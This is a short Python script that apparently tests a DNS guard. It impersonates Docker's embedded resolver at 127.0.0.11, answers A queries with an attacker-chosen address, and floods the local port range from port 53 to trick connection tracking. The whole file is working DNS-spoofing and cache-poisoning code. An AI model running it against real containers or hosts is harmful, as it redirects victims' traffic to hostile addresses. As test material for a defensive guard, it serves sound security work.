"""
docker-thief.py WHERE NAME ADDRESS: an agent that would pass for Docker's resolver, says NAME is at ADDRESS, and asks the guard.

  WHERE is 53      from port 53 it sends to every port that the guard may ask from, before that asks: conntrack could take
                   the question for the answer
  WHERE is a port  it is where Docker's resolver was, which is gone
"""
import os
import socket
import sys
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import wire

port, name, evil = int(sys.argv[1]), sys.argv[2], socket.inet_aton(sys.argv[3])
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.bind(("127.0.0.11", port))
refused = 0
if port == 53:
    low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    for guess in range(low, high + 1):
        try:
            resolver.sendto(b"", ("127.0.0.1", guess))
        except PermissionError:
            refused += 1
        except OSError:
            pass


def serve():
    while True:
        try:
            message, peer = resolver.recvfrom(4096)
            ident, _, kind, asked = wire.question(message)
            resolver.sendto(wire.reply(ident, asked, [(None, "A", 60, evil)] if kind == 1 else []), peer)
        except (OSError, IndexError):
            pass


threading.Thread(target=serve, daemon=True).start()
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asker.settimeout(20)
asker.sendto(wire.query(name, "A", 7), ("192.0.2.1", 53))
print("refused", refused, *wire.addresses(asker.recv(4096)))
